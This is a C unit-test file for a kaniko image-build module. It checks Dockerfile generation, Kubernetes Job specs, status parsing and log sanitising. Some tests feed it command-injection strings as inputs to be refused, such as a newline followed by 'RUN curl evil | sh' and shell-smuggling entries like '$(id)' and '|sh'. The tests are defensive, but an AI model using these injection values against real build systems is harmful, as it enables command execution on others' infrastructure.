/* Tests for pkg/imagebuild/job.c: the Dockerfile, the kaniko Job and its context ConfigMap, the
 * Job's status read back into a build state, and the log tail. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

/* Its own block so include sorting keeps it after the headers it needs. */
#include <cmocka.h>

#include "imagebuild/job.h"
#include "util/timefmt.h"

#include <json.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define TAG "b22120d36cb167f3a56d4153967b95db"
/* TAG scoped to namespace team-a (build.shareAcrossNamespaces false). */
#define NS_TAG_TEAM_A "6c363c8aca9c4f549cc4314d4e5100a7"

static const struct build_config CFG = {
    .namespace = "telo-builds",
    .repository = "127.0.0.1:5000/telo/apps/",
    .builder_image = "registry.local/kaniko:1.23",
    .init_image = "busybox:stable",
    .telo_registry_url = "https://registry.example",
    .push_secret = "push-creds",
    .insecure_registry = 1,
    .timeout_seconds = 900,
    .ttl_seconds_after_finished = 120,
    .managed_by = "telo-operator",
};

/* The value at a dotted path ("spec.template.spec.containers.0.args"), or NULL. */
static struct json_object *at(struct json_object *o, const char *path)
{
    char buf[256];
    snprintf(buf, sizeof(buf), "%s", path);
    for (char *save = NULL, *k = strtok_r(buf, ".", &save); k != NULL && o != NULL;
         k = strtok_r(NULL, ".", &save)) {
        if (json_object_is_type(o, json_type_array)) {
            o = json_object_array_get_idx(o, (size_t)atoi(k));
        } else if (!json_object_object_get_ex(o, k, &o)) {
            return NULL;
        }
    }
    return o;
}

static const char *str_at(struct json_object *o, const char *path)
{
    struct json_object *v = at(o, path);
    return v != NULL ? json_object_get_string(v) : NULL;
}

static void names_and_dockerfile(void **state)
{
    (void)state;
    char name[64], ref[128];
    build_job_name(TAG, name, sizeof(name));
    assert_string_equal(name, "telo-build-" TAG);
    assert_true(strlen(name) <= 63);
    assert_int_equal(build_image_ref(&CFG, TAG, ref, sizeof(ref)), 0);
    assert_string_equal(ref, "127.0.0.1:5000/telo/apps:" TAG);
    assert_int_equal(build_image_ref(&CFG, TAG, ref, 20), -1);
    struct telo_err err;
    char *df = build_dockerfile("telorun/node:latest-slim", NULL, "app/telo.yaml", &err);
    assert_string_equal(df, "FROM telorun/node:latest-slim\n"
                            "WORKDIR /app\n"
                            "COPY . /app\n"
                            "ARG TELO_REGISTRY_URL\n"
                            "ENV TELO_REGISTRY_URL=$TELO_REGISTRY_URL\n"
                            "ENV TELO_CACHE_DIR=/telo-cache\n"
                            "RUN [\"telo\",\"install\",\"/app/app/telo.yaml\"]\n");
    free(df);
    assert_null(build_dockerfile("b", NULL, "app.yaml\nRUN curl evil | sh", &err));
    assert_null(build_dockerfile("b\rFROM x", NULL, "app.yaml", &err));
    assert_string_equal(err.msg, "spec.image: an image reference may contain only letters, "
                                 "digits, '.', '_', '-', ':', '@' and '/' (found byte 0x0d at "
                                 "character 2)");
}

/* Entries a shell would read as more than a path (issue 15, finding 1), and relatives. */
static const char *const INJECTIONS[] = {
    "app/t.yaml;id",  "app/$(id).yaml",    "app/`id`.yaml",
    "app/t.yaml|sh",  "app/t.yaml&&id",    "app/t yaml",
    "app/t\".yaml",   "app/t'.yaml",       "app/t.yaml;sh -c \"$(cat x.sh)\";#",
    "app/t.yaml\nid", "app/t\\.yaml",      "app/t.yaml>x",
    "app/t.yaml#",    "app/\xc3\xa9.yaml", "app/t.yaml\x7f",
};

static void injected_entries_are_refused(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(INJECTIONS) / sizeof(INJECTIONS[0]); i++) {
        struct telo_err err;
        telo_err_clear(&err);
        assert_int_equal(build_entry_check(INJECTIONS[i], &err), -TELO_EINVAL);
        /* The field and the allowed set, and never the raw entry (it may hold anything). */
        assert_non_null(strstr(err.msg, "spec.entry: may contain only letters, digits, '.', '_', "
                                        "'-' and '/' (found "));
        assert_null(strstr(err.msg, INJECTIONS[i]));
        for (const char *c = err.msg; *c != '\0'; c++)
            assert_true((unsigned char)*c >= 0x20 && (unsigned char)*c < 0x7f);
        assert_null(build_dockerfile("telorun/node:latest-slim", NULL, INJECTIONS[i], &err));
        assert_non_null(strstr(err.msg, "spec.entry: may contain only"));
        struct build_job_input in = {.tag = TAG,
                                     .base_image = "telorun/node:latest-slim",
                                     .entry = INJECTIONS[i],
                                     .bundle_configmap = "telo-build-" TAG};
        assert_null(build_desired_job(&CFG, &in, &err));
        assert_non_null(strstr(err.msg, "spec.entry: may contain only"));
    }
    struct telo_err err;
    assert_int_equal(build_entry_check("app/t.yaml;id", &err), -TELO_EINVAL);
    assert_string_equal(err.msg, "spec.entry: may contain only letters, digits, '.', '_', '-' and "
                                 "'/' (found ';' at character 11): give the path of the "
                                 "Telo.Application manifest inside the bundle, like app/telo.yaml");
    assert_int_equal(build_entry_check("app/t yaml", &err), -TELO_EINVAL);
    assert_non_null(strstr(err.msg, "(found a space at character 6)"));
    assert_int_equal(build_entry_check("app/t'.yaml", &err), -TELO_EINVAL);
    assert_non_null(strstr(err.msg, "(found \"'\" at character 6)"));
    assert_int_equal(build_entry_check("app/t\\.yaml", &err), -TELO_EINVAL);
    assert_non_null(strstr(err.msg, "(found '\\' at character 6)"));
    assert_int_equal(build_entry_check("app/t\nyaml", &err), -TELO_EINVAL);
    assert_non_null(strstr(err.msg, "(found byte 0x0a at character 6)"));
    /* Shape: relative, no empty, '.' or '..' segments, bounded. */
    const char *shapes[] = {"/app/telo.yaml", "app/../x.yaml", "..", "./a.yaml",
                            "a//b.yaml",      "app/",          "",   NULL};
    for (size_t i = 0; i < sizeof(shapes) / sizeof(shapes[0]); i++) {
        assert_int_equal(build_entry_check(shapes[i], &err), -TELO_EINVAL);
        assert_non_null(strstr(err.msg, "must be a relative path inside the bundle"));
    }
    char longest[BUILD_ENTRY_MAX + 2];
    memset(longest, 'a', sizeof(longest) - 1);
    longest[sizeof(longest) - 1] = '\0';
    assert_int_equal(build_entry_check(longest, &err), -TELO_EINVAL);
    assert_string_equal(err.msg, "spec.entry: 1025 characters is longer than 1024: give the path "
                                 "of the Telo.Application manifest inside the bundle, like "
                                 "app/telo.yaml");
    longest[BUILD_ENTRY_MAX] = '\0';
    assert_int_equal(build_entry_check(longest, NULL), 0);
    /* What bundles name: dots, dashes, underscores, digits, capitals and nesting. */
    const char *good[] = {"app/telo.yaml", "main.telo", "A-b_c/v1.2/..x/x../Telo.YAML",
                          ".hidden/app.yaml", "a...b"};
    for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
        assert_int_equal(build_entry_check(good[i], NULL), 0);
}

static void the_dockerfile_runs_telo_without_a_shell(void **state)
{
    (void)state;
    struct telo_err err;
    char *df = build_dockerfile("registry.local:5000/telo/node@sha256:ab12", NULL,
                                "x-1/_y.v2/e.telo", &err);
    assert_non_null(df);
    /* One RUN, in the exec form, the entry inside the JSON array only. */
    const char *run = strstr(df, "\nRUN ");
    assert_non_null(run);
    assert_null(strstr(run + 4, "RUN"));
    assert_string_equal(run, "\nRUN [\"telo\",\"install\",\"/app/x-1/_y.v2/e.telo\"]\n");
    assert_string_equal(strstr(df, "x-1/_y.v2/e.telo"), "x-1/_y.v2/e.telo\"]\n");
    /* Every line is one of the seven instructions, FROM with one word. */
    const char *from = "FROM registry.local:5000/telo/node@sha256:ab12\n";
    assert_int_equal(strncmp(df, from, strlen(from)), 0);
    size_t lines = 0;
    for (const char *c = df; *c != '\0'; c++)
        lines += *c == '\n';
    assert_int_equal(lines, 7);
    free(df);
    /* Base images a Dockerfile would read as more than one word, or expand. */
    const char *bad_images[] = {"node AS x", "node\nRUN id", "$EVIL", "node:1;id", "", "a\tb"};
    for (size_t i = 0; i < sizeof(bad_images) / sizeof(bad_images[0]); i++) {
        assert_null(build_dockerfile(bad_images[i], NULL, "app/telo.yaml", &err));
        assert_non_null(strstr(err.msg, "spec.image: "));
    }
}

/* The digest an image's tag was keyed with is the base the build pulls (issue 17): a tag moved
 * after the lookup cannot slip other content under that tag. */
static void the_dockerfile_pins_the_keyed_base_digest(void **state)
{
    (void)state;
    static const char digest[] =
        "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    struct telo_err err;
    char *df = build_dockerfile("registry.local:5000/telo/node:slim", digest, "app.yaml", &err);
    assert_non_null(df);
    assert_int_equal(strncmp(df, "FROM registry.local:5000/telo/node:slim@sha256:0123", 51), 0);
    assert_non_null(strstr(df, digest));
    free(df);
    /* An empty digest is none; an image pinned already keeps its own. */
    df = build_dockerfile("node:slim", "", "app.yaml", &err);
    assert_int_equal(strncmp(df, "FROM node:slim\n", 15), 0);
    free(df);
    df = build_dockerfile("node@sha256:ab12", digest, "app.yaml", &err);
    assert_int_equal(strncmp(df, "FROM node@sha256:ab12\n", 22), 0);
    free(df);
    /* FROM takes one word: a digest that would be more, or that is no digest, is refused. */
    const char *bad[] = {"sha256:ab cd", "sha256:",     ":ab12",         "sha256:ab\nRUN id",
                         "ab12",         "SHA256:ab12", "sha256:ab12@x", "sha256:ab:12"};
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        telo_err_clear(&err);
        assert_null(build_dockerfile("node:slim", bad[i], "app.yaml", &err));
        assert_non_null(strstr(err.msg, "the base image's digest is not"));
    }
    char long_digest[200];
    memset(long_digest, 'a', sizeof(long_digest) - 1);
    memcpy(long_digest, "sha256:", 7);
    long_digest[sizeof(long_digest) - 1] = '\0';
    assert_null(build_dockerfile("node:slim", long_digest, "app.yaml", &err));
}

static void tags_are_per_namespace_unless_shared(void **state)
{
    (void)state;
    char a[BUILD_TAG_LEN + 1], b[BUILD_TAG_LEN + 1], a2[BUILD_TAG_LEN + 1];
    build_tag_for_namespace(TAG, "team-a", a);
    build_tag_for_namespace(TAG, "team-b", b);
    build_tag_for_namespace(TAG, "team-a", a2);
    assert_int_equal(strlen(a), BUILD_TAG_LEN);
    assert_int_equal(strspn(a, "0123456789abcdef"), BUILD_TAG_LEN);
    assert_string_not_equal(a, TAG);
    assert_string_not_equal(a, b);
    assert_string_equal(a, a2);
    /* Pinned: sha256("namespace\0team-a\0tag\0<TAG>\0")[:32], as
     * printf 'namespace\0team-a\0tag\0%s\0' TAG | sha256sum computes it. */
    assert_string_equal(a, NS_TAG_TEAM_A);
    /* The records cannot be shifted into each other: namespace "a" with tag "bc" is not
     * namespace "ab" with tag "c". */
    build_tag_for_namespace("bc", "a", a);
    build_tag_for_namespace("c", "ab", b);
    assert_string_not_equal(a, b);
}

static void job_from_a_configmap_bundle(void **state)
{
    (void)state;
    struct build_job_input in = {.tag = TAG,
                                 .base_image = "telorun/node:latest-slim",
                                 .entry = "app/telo.yaml",
                                 .requested_by = "demo/hello",
                                 .bundle_configmap = "telo-build-" TAG};
    struct json_object *job = build_desired_job(&CFG, &in, NULL);
    assert_non_null(job);
    assert_string_equal(str_at(job, "apiVersion"), "batch/v1");
    assert_string_equal(str_at(job, "kind"), "Job");
    assert_string_equal(str_at(job, "metadata.name"), "telo-build-" TAG);
    assert_string_equal(str_at(job, "metadata.namespace"), "telo-builds");
    /* Label keys hold dots, which at() splits on: read them directly. */
    struct json_object *labels = at(job, "metadata.labels");
    assert_int_equal(json_object_object_length(labels), 3);
    struct json_object *v = NULL;
    assert_true(json_object_object_get_ex(labels, "app.kubernetes.io/managed-by", &v));
    assert_string_equal(json_object_get_string(v), "telo-operator");
    assert_true(json_object_object_get_ex(labels, "telo.run/build", &v));
    assert_string_equal(json_object_get_string(v), "true");
    assert_true(json_object_object_get_ex(labels, "telo.run/tag", &v));
    assert_string_equal(json_object_get_string(v), TAG);
    assert_true(
        json_object_object_get_ex(at(job, "metadata.annotations"), "telo.run/requested-by", &v));
    assert_string_equal(json_object_get_string(v), "demo/hello");
    assert_int_equal(json_object_get_int(at(job, "spec.backoffLimit")), 0);
    assert_int_equal(json_object_get_int(at(job, "spec.activeDeadlineSeconds")), 900);
    assert_int_equal(json_object_get_int(at(job, "spec.ttlSecondsAfterFinished")), 120);
    assert_int_equal(json_object_object_length(at(job, "spec.template.metadata.labels")), 3);

    struct json_object *pod = at(job, "spec.template.spec");
    assert_string_equal(str_at(pod, "restartPolicy"), "Never");
    assert_false(json_object_get_boolean(at(pod, "automountServiceAccountToken")));
    assert_false(json_object_get_boolean(at(pod, "enableServiceLinks")));
    assert_string_equal(str_at(pod, "securityContext.seccompProfile.type"), "RuntimeDefault");

    struct json_object *kaniko = at(pod, "containers.0");
    assert_int_equal(json_object_array_length(at(pod, "containers")), 1);
    assert_string_equal(str_at(kaniko, "name"), "kaniko");
    assert_string_equal(str_at(kaniko, "image"), "registry.local/kaniko:1.23");
    const char *want_args[] = {"--context=dir:///workspace",
                               "--dockerfile=/build/Dockerfile",
                               ("--destination=127.0.0.1:5000/telo/apps:" TAG),
                               "--build-arg=TELO_REGISTRY_URL=https://registry.example",
                               "--digest-file=/dev/termination-log",
                               "--log-format=text",
                               "--insecure",
                               "--skip-tls-verify",
                               "--insecure-pull",
                               "--skip-tls-verify-pull"};
    struct json_object *args = at(kaniko, "args");
    assert_int_equal(json_object_array_length(args), sizeof(want_args) / sizeof(want_args[0]));
    for (size_t i = 0; i < sizeof(want_args) / sizeof(want_args[0]); i++)
        assert_string_equal(json_object_get_string(json_object_array_get_idx(args, i)),
                            want_args[i]);
    assert_string_equal(str_at(kaniko, "volumeMounts.2.name"), "docker-config");
    assert_string_equal(str_at(kaniko, "volumeMounts.2.mountPath"), "/kaniko/.docker");
    /* The push credentials: root's alone, out of reach of RUN steps running as the image's user.
     */
    struct json_object *creds = NULL;
    for (size_t i = 0; i < json_object_array_length(at(pod, "volumes")); i++)
        if (strcmp(str_at(json_object_array_get_idx(at(pod, "volumes"), i), "name"),
                   "docker-config") == 0)
            creds = json_object_array_get_idx(at(pod, "volumes"), i);
    assert_non_null(creds);
    assert_string_equal(str_at(creds, "secret.secretName"), "push-creds");
    assert_int_equal(json_object_get_int(at(creds, "secret.defaultMode")), 0400);
    assert_false(json_object_get_boolean(at(kaniko, "securityContext.allowPrivilegeEscalation")));
    assert_string_equal(str_at(kaniko, "securityContext.capabilities.drop.0"), "NET_RAW");
    assert_null(at(kaniko, "resources"));

    struct json_object *init = at(pod, "initContainers.0");
    assert_string_equal(str_at(init, "name"), "context");
    assert_string_equal(str_at(init, "image"), "busybox:stable");
    assert_true(json_object_get_boolean(at(init, "securityContext.runAsNonRoot")));
    assert_true(json_object_get_boolean(at(init, "securityContext.readOnlyRootFilesystem")));
    assert_string_equal(str_at(init, "securityContext.capabilities.drop.0"), "ALL");
    assert_string_equal(str_at(init, "env.0.name"), "DOCKERFILE");
    assert_non_null(
        strstr(str_at(init, "env.0.value"), "RUN [\"telo\",\"install\",\"/app/app/telo.yaml\"]\n"));
    assert_int_equal(json_object_array_length(at(init, "env")), 1);
    assert_string_equal(str_at(init, "volumeMounts.0.name"), "bundle");
    assert_true(json_object_get_boolean(at(init, "volumeMounts.0.readOnly")));
    /* No spec value is spliced into the script. */
    const char *script = str_at(init, "command.2");
    assert_null(strstr(script, "telo.yaml"));
    assert_null(strstr(script, "telorun/node"));

    struct json_object *vols = at(pod, "volumes");
    assert_int_equal(json_object_array_length(vols), 5);
    assert_string_equal(str_at(vols, "3.configMap.name"), "telo-build-" TAG);
    assert_string_equal(str_at(vols, "3.configMap.items.0.key"), "bundle.tgz");
    assert_string_equal(str_at(vols, "4.secret.secretName"), "push-creds");
    assert_string_equal(str_at(vols, "4.secret.items.0.key"), ".dockerconfigjson");
    assert_string_equal(str_at(vols, "4.secret.items.0.path"), "config.json");
    json_object_put(job);
}

static void job_from_a_url_bundle_with_defaults(void **state)
{
    (void)state;
    struct build_config cfg = {.repository = "reg.example/apps", .cpu = "1", .memory = "2Gi"};
    struct build_job_input in = {.tag = TAG,
                                 .base_image = "b",
                                 .entry = "e.yaml",
                                 .bundle_url = "https://x.example/b.tgz",
                                 .bundle_sha256 = "ab"};
    struct json_object *job = build_desired_job(&cfg, &in, NULL);
    assert_non_null(job);
    assert_string_equal(str_at(job, "metadata.namespace"), "telo-builds");
    assert_null(at(job, "metadata.annotations"));
    assert_int_equal(json_object_get_int(at(job, "spec.activeDeadlineSeconds")), 600);
    assert_int_equal(json_object_get_int(at(job, "spec.ttlSecondsAfterFinished")), 300);
    struct json_object *pod = at(job, "spec.template.spec");
    assert_string_equal(str_at(pod, "containers.0.image"), "gcr.io/kaniko-project/executor:latest");
    assert_int_equal(json_object_array_length(at(pod, "containers.0.args")), 6);
    assert_string_equal(str_at(pod, "containers.0.args.3"),
                        "--build-arg=TELO_REGISTRY_URL=https://registry.telo.run");
    assert_string_equal(str_at(pod, "containers.0.resources.limits.memory"), "2Gi");
    assert_string_equal(str_at(pod, "containers.0.resources.requests.cpu"), "1");
    assert_int_equal(json_object_array_length(at(pod, "containers.0.volumeMounts")), 2);
    assert_int_equal(json_object_array_length(at(pod, "volumes")), 3);
    assert_string_equal(str_at(pod, "initContainers.0.env.1.name"), "BUNDLE_URL");
    assert_string_equal(str_at(pod, "initContainers.0.env.1.value"), "https://x.example/b.tgz");
    assert_string_equal(str_at(pod, "initContainers.0.env.2.value"), "ab");
    assert_string_equal(str_at(pod, "initContainers.0.volumeMounts.0.name"), "workspace");
    json_object_put(job);
}

static const char *env_value(struct json_object *container, const char *name)
{
    struct json_object *env = at(container, "env");
    for (size_t i = 0; i < json_object_array_length(env); i++)
        if (strcmp(str_at(json_object_array_get_idx(env, i), "name"), name) == 0)
            return str_at(json_object_array_get_idx(env, i), "value");
    return NULL;
}

/* The download is bounded by timeout(1), not `wget -T` (busybox 1.35 crashes on it), and by
 * head(1) at BUILD_DOWNLOAD_MAX, so an endless stream cannot fill the volume. */
static void the_url_download_is_bounded_in_time_and_size(void **state)
{
    (void)state;
    struct build_config cfg = {.repository = "reg.example/apps"};
    struct build_job_input in = {.tag = TAG,
                                 .base_image = "b",
                                 .entry = "e.yaml",
                                 .bundle_url = "https://x.example/b.tgz",
                                 .bundle_sha256 = "ab"};
    struct json_object *job = build_desired_job(&cfg, &in, NULL);
    assert_non_null(job);
    struct json_object *init = at(job, "spec.template.spec.initContainers.0");
    const char *script = str_at(init, "command.2");
    assert_null(strstr(script, "-T"));
    assert_non_null(strstr(script, "timeout \"$BUNDLE_TIMEOUT\" wget -q -O - \"$BUNDLE_URL\""));
    assert_non_null(strstr(script, "| head -c $((BUNDLE_MAX + 1)) >/tmp/bundle.tgz"));
    assert_non_null(strstr(script, "it is larger than $BUNDLE_MAX bytes"));
    assert_string_equal(env_value(init, "BUNDLE_MAX"), "16777216");
    assert_string_equal(env_value(init, "BUNDLE_TIMEOUT"), "60");
    json_object_put(job);
}

/* Every emptyDir of the build pod has a sizeLimit: tenant bytes reach each of them (the extracted
 * bundle, the download, the Dockerfile), and a gzip bundle can expand ~1000x. */
static void every_build_volume_is_bounded(void **state)
{
    (void)state;
    struct build_config cfg = {.repository = "reg.example/apps", .push_secret = "creds"};
    const char *urls[] = {NULL, "https://x.example/b.tgz"};
    for (size_t u = 0; u < 2; u++) {
        struct build_job_input in = {.tag = TAG,
                                     .base_image = "b",
                                     .entry = "e.yaml",
                                     .bundle_configmap = urls[u] ? NULL : "telo-build-" TAG,
                                     .bundle_url = urls[u],
                                     .bundle_sha256 = "ab"};
        struct json_object *job = build_desired_job(&cfg, &in, NULL);
        assert_non_null(job);
        struct json_object *vols = at(job, "spec.template.spec.volumes");
        size_t dirs = 0;
        for (size_t i = 0; i < json_object_array_length(vols); i++) {
            struct json_object *v = json_object_array_get_idx(vols, i);
            if (!at(v, "emptyDir"))
                continue;
            dirs++;
            const char *name = str_at(v, "name"), *limit = str_at(v, "emptyDir.sizeLimit");
            assert_non_null(limit);
            if (strcmp(name, "workspace") == 0)
                assert_string_equal(limit, "96Mi"); /* 3x the bundle's 32 MiB total cap */
            else if (strcmp(name, "tmp") == 0)
                assert_string_equal(limit, "24Mi"); /* the 16 MiB download and error output */
            else
                assert_string_equal(limit, "1Mi"); /* the Dockerfile */
        }
        assert_int_equal(dirs, 3);
        json_object_put(job);
    }
}

static void context_configmap(void **state)
{
    (void)state;
    const unsigned char tgz[] = {0x1f, 0x8b, 0x08, 0x00, 'x'};
    struct json_object *cm = build_desired_context(&CFG, TAG, "uid-1", tgz, sizeof(tgz));
    assert_non_null(cm);
    assert_string_equal(str_at(cm, "kind"), "ConfigMap");
    assert_string_equal(str_at(cm, "metadata.name"), "telo-build-" TAG);
    assert_string_equal(str_at(cm, "metadata.namespace"), "telo-builds");
    assert_string_equal(str_at(cm, "metadata.ownerReferences.0.kind"), "Job");
    assert_string_equal(str_at(cm, "metadata.ownerReferences.0.name"), "telo-build-" TAG);
    assert_string_equal(str_at(cm, "metadata.ownerReferences.0.uid"), "uid-1");
    assert_null(at(cm, "metadata.ownerReferences.0.controller"));
    struct json_object *v = NULL;
    assert_true(json_object_object_get_ex(at(cm, "binaryData"), "bundle.tgz", &v));
    assert_string_equal(json_object_get_string(v), "H4sIAHg=");
    json_object_put(cm);
    cm = build_desired_context(&CFG, TAG, "uid-1", tgz, 0);
    assert_true(json_object_object_get_ex(at(cm, "binaryData"), "bundle.tgz", &v));
    assert_string_equal(json_object_get_string(v), "");
    json_object_put(cm);
}

static struct json_object *job_json(const char *text)
{
    struct json_object *o = json_tokener_parse(text);
    assert_non_null(o);
    return o;
}

static void status_of_jobs(void **state)
{
    (void)state;
    double created = timefmt_parse("2026-01-01T00:00:00Z");
    struct build_status st;

    build_status_read(NULL, "telo-builds/telo-build-x", "demo/a", 600, created, &st);
    assert_int_equal(st.state, BUILD_VANISHED);
    assert_string_equal(st.message,
                        "image build job 'telo-builds/telo-build-x' disappeared before completing");

    struct json_object *j = job_json(
        "{\"metadata\":{\"creationTimestamp\":\"2026-01-01T00:00:00Z\","
        "\"annotations\":{\"telo.run/requested-by\":\"demo/a\"}},\"status\":{\"active\":1}}");
    build_status_read(j, "telo-builds/telo-build-x", "demo/a", 600, created + 10, &st);
    assert_int_equal(st.state, BUILD_RUNNING);
    assert_string_equal(st.progress, "Building image\xe2\x80\xa6");
    assert_int_equal(st.done, 0);
    assert_int_equal(st.requeue_after_s, 621);
    build_status_read(j, "telo-builds/telo-build-x", "demo/b", 600, created + 10, &st);
    assert_string_equal(st.progress, "Waiting for in-progress build\xe2\x80\xa6");
    build_status_read(j, "telo-builds/telo-build-x", NULL, 600, created + 10, &st);
    assert_string_equal(st.progress, BUILD_PROGRESS_WAITING);
    /* Past the deadline plus the 30 s grace without an answer from the Job controller. */
    build_status_read(j, "telo-builds/telo-build-x", "demo/a", 600, created + 630, &st);
    assert_int_equal(st.state, BUILD_TIMED_OUT);
    assert_string_equal(st.message,
                        "image build did not finish within 600s (job 'telo-builds/telo-build-x')");
    json_object_put(j);

    j = job_json("{\"metadata\":{},\"status\":{\"succeeded\":1}}");
    build_status_read(j, "n/j", "demo/a", 600, created, &st);
    assert_int_equal(st.state, BUILD_SUCCEEDED);
    assert_string_equal(st.progress, "Image built");
    assert_int_equal(st.done, 1);
    json_object_put(j);

    j = job_json("{\"metadata\":{},\"status\":{\"conditions\":[{\"type\":\"Complete\","
                 "\"status\":\"True\"}]}}");
    build_status_read(j, "n/j", "demo/a", 600, created, &st);
    assert_int_equal(st.state, BUILD_SUCCEEDED);
    json_object_put(j);

    j = job_json("{\"metadata\":{},\"status\":{\"failed\":1,\"conditions\":[{\"type\":\"Failed\","
                 "\"status\":\"True\",\"reason\":\"BackoffLimitExceeded\"}]}}");
    build_status_read(j, "n/j", "demo/a", 600, created, &st);
    assert_int_equal(st.state, BUILD_FAILED);
    assert_string_equal(st.message, "image build failed (job 'n/j')");
    json_object_put(j);

    /* Kubernetes 1.31+: FailureTarget comes before Failed while pods terminate. */
    j = job_json("{\"metadata\":{},\"status\":{\"conditions\":[{\"type\":\"FailureTarget\","
                 "\"status\":\"True\",\"reason\":\"DeadlineExceeded\"}]}}");
    build_status_read(j, "n/j", "demo/a", 600, created, &st);
    assert_int_equal(st.state, BUILD_TIMED_OUT);
    json_object_put(j);

    j = job_json("{\"metadata\":{},\"status\":{\"conditions\":[{\"type\":\"Failed\","
                 "\"status\":\"False\"}],\"failed\":0}}");
    build_status_read(j, "n/j", "demo/a", 600, created, &st);
    assert_int_equal(st.state, BUILD_RUNNING);
    assert_int_equal(st.requeue_after_s, 600);
    json_object_put(j);

    j = job_json("{\"metadata\":{\"deletionTimestamp\":\"2026-01-01T00:00:05Z\"},\"status\":{}}");
    build_status_read(j, "n/j", "demo/a", 600, created, &st);
    assert_int_equal(st.state, BUILD_VANISHED);
    assert_string_equal(st.message, "image build job 'n/j' was deleted before completing");
    json_object_put(j);
}

static void log_tails(void **state)
{
    (void)state;
    char out[64];
    const char log[] = "one\ntwo\nthree\nfour\n\n";
    assert_int_equal(build_log_tail(log, strlen(log), 2, out, sizeof(out)), 10);
    assert_string_equal(out, "three\nfour");
    build_log_tail(log, strlen(log), 20, out, sizeof(out));
    assert_string_equal(out, "one\ntwo\nthree\nfour");
    build_log_tail(log, strlen(log), 0, out, sizeof(out));
    assert_string_equal(out, "");
    build_log_tail("x", 1, 3, out, sizeof(out));
    assert_string_equal(out, "x");
    /* Cut to fit, never in the middle of a UTF-8 character. */
    build_log_tail("ab\xc3\xa9"
                   "cd",
                   6, 1, out, 4);
    assert_string_equal(out, "cd");
    build_log_tail(NULL, 0, 3, out, sizeof(out));
    assert_string_equal(out, "");
    /* What reaches status.message is safe on a terminal: kaniko's colours (its default
     * --log-format, seen on the real node) and carriage returns go, other controls become '?'. */
    char big[256];
    const char *coloured = "\x1b[36mINFO\x1b[0m[0000] RUN [\"telo\"]\r\n"
                           "telo install: \x1b]0;title\x07"
                           "bad\x1b[2J\x7f\tend\xc2\x9b"
                           "2J \xc3\xa9\n";
    assert_int_equal(
        build_log_tail(coloured, strlen(coloured), 2, big, sizeof(big)),
        strlen("INFO[0000] RUN [\"telo\"]\ntelo install: ]0;title?bad?\tend?2J \xc3\xa9"));
    assert_string_equal(big,
                        "INFO[0000] RUN [\"telo\"]\ntelo install: ]0;title?bad?\tend?2J \xc3\xa9");
    build_log_tail("a\x1b[", 3, 1, out, sizeof(out)); /* a sequence cut by the log's end */
    assert_string_equal(out, "a");
    /* The tail is UTF-8: each byte outside a well-formed sequence (a lone 0x9b, the 8-bit CSI; a
     * stray continuation; an overlong form; a surrogate; a sequence cut short) is one '?', and
     * well-formed characters of every length stay. */
    const char *raw = "a\x9b[2Jb\x80"
                      "c\xc0\xaf"
                      "d\xed\xa0\x80"
                      "e\xe2\x82"
                      "f\xff\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80\xe2\x82";
    build_log_tail(raw, strlen(raw), 1, big, sizeof(big));
    assert_string_equal(big, "a?[2Jb?c??d???e??f?\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80??");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(names_and_dockerfile),
        cmocka_unit_test(injected_entries_are_refused),
        cmocka_unit_test(the_dockerfile_runs_telo_without_a_shell),
        cmocka_unit_test(the_dockerfile_pins_the_keyed_base_digest),
        cmocka_unit_test(tags_are_per_namespace_unless_shared),
        cmocka_unit_test(job_from_a_configmap_bundle),
        cmocka_unit_test(job_from_a_url_bundle_with_defaults),
        cmocka_unit_test(the_url_download_is_bounded_in_time_and_size),
        cmocka_unit_test(every_build_volume_is_bounded),
        cmocka_unit_test(context_configmap),
        cmocka_unit_test(status_of_jobs),
        cmocka_unit_test(log_tails),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
